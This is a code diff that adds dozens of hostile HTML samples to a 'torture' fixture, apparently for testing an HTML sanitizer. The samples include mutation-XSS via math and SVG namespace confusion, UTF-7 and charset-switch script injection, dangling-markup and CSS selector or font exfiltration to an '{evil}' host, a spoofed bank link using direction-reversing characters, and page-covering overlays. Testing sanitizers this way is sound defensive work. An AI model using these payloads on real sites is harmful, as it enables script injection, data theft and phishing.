@@ -106,6 +106,49 @@ export const torture: Record<string, string> = {
     '<kontor-quote onclick=top.bad=1><script>top.bad=1</script></kontor-quote></div></div></body><script>top.bad=1</script>',
   'an attribute that ends the tag':
     '<p title="--></style></title></textarea><script>top.bad=1</script>">x</p>',
+  'math as an annotation':
+    '<math><annotation-xml encoding="text/html"><img src={evil}/annotation onerror=top.bad=1></annotation-xml></math>',
+  'a namespace confusion':
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=top.bad=1 src>">',
+  'a table that throws its content out':
+    '<table><math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=top.bad=1 src=1>">',
+  'a thousand elements in each other': `${'<div><b>'.repeat(1000)}<script>top.bad=1</script><img src=x onerror=top.bad=1>`,
+  'a thousand open lists': `${'<ul><li>'.repeat(1000)}<img src="{evil}/deep">`,
+  'a thousand formatting elements': `${'<a><font>'.repeat(1000)}<p onclick=top.bad=1>x`,
+  'seven-bit letters for others':
+    '+ADw-script+AD4-top.bad=1+ADw-/script+AD4- <meta http-equiv=content-type content="text/html;charset=utf-7">',
+  'another charset named inside':
+    '<meta charset=iso-2022-jp><p title="\u001b$B" class="\u001b(B"><img src=x onerror=top.bad=1>',
+  'text that runs the other way':
+    '<p>\u202e<a href="https://nordbank.example.evil.example/\u202emoc.knabdron">moc.knabdron\u202c</a>\u2066\u202b</p>',
+  'an open attribute that gathers what follows': '<img src=\'{evil}/dangling?<p>secret text</p><a href="x">',
+  'an open style that gathers what follows': '<style>p{background:url({evil}/style-dangling?',
+  'hints to the browser':
+    '<link rel=preload as=image href="{evil}/preload"><link rel=preconnect href="{evil}"><link rel=modulepreload href="{evil}/mod.js"><link rel=icon href="{evil}/icon">',
+  'a manifest and a prerendering':
+    '<link rel=manifest href="{evil}/manifest"><script type=speculationrules>{"prerender":[{"urls":["{evil}/prerender"]}]}</script>',
+  'a frameset': '<frameset><frame src="{evil}/frame"></frameset>',
+  'a portal and a fenced frame':
+    '<portal src="{evil}/portal"></portal><fencedframe src="{evil}/fenced"></fencedframe>',
+  'a popover, a dialog and a command':
+    '<button popovertarget=p commandfor=p command=show-modal>x</button><dialog open id=p onbeforetoggle=top.bad=1>Sign in</dialog>',
+  'a picture map':
+    '<img usemap="#m" ismap src="{evil}/map"><map name=m><area href="javascript:top.bad=1"></map>',
+  'a lazy picture and its sizes':
+    '<img loading=lazy data-src="{evil}/lazy" lowsrc="{evil}/low" dynsrc="{evil}/dyn" longdesc="{evil}/long">',
+  'a filter, a mask and a shape':
+    '<p style="filter:url({evil}/f#x);mask:url({evil}/m);clip-path:url({evil}/c);shape-outside:url({evil}/s);border-image:url({evil}/b) 1">x</p>',
+  'content and counters that load':
+    '<style>p::before{content:url({evil}/content)}@counter-style x{symbols:url({evil}/symbols)}li{list-style:x}</style><p>x</p>',
+  'a sheet with another charset': '<style>@charset "utf-7";+AEA-import +ACI-{evil}/charset+ACI-;</style>',
+  'attribute selectors over the office':
+    '<style>html[data-kept-back^="1"]{background:url({evil}/kept)}a[href^="https://x"]::after{content:url({evil}/sel)}</style><a href="https://x.example/">x</a>',
+  'a font that tells letters apart':
+    '<style>@font-face{font-family:t;src:url({evil}/a);unicode-range:U+61}p{font-family:t}</style><p>a secret</p>',
+  'a cover by margins and size':
+    '<div style="margin:-5000px;padding:5000px;width:99999px;height:99999px;background:red">x</div>',
+  'a sticky header over all':
+    '<div style="position:sticky;top:0;z-index:2147483647;transform:scale(50)">x</div>',
 };
 
 /** One that is only large: the office stays quick. */
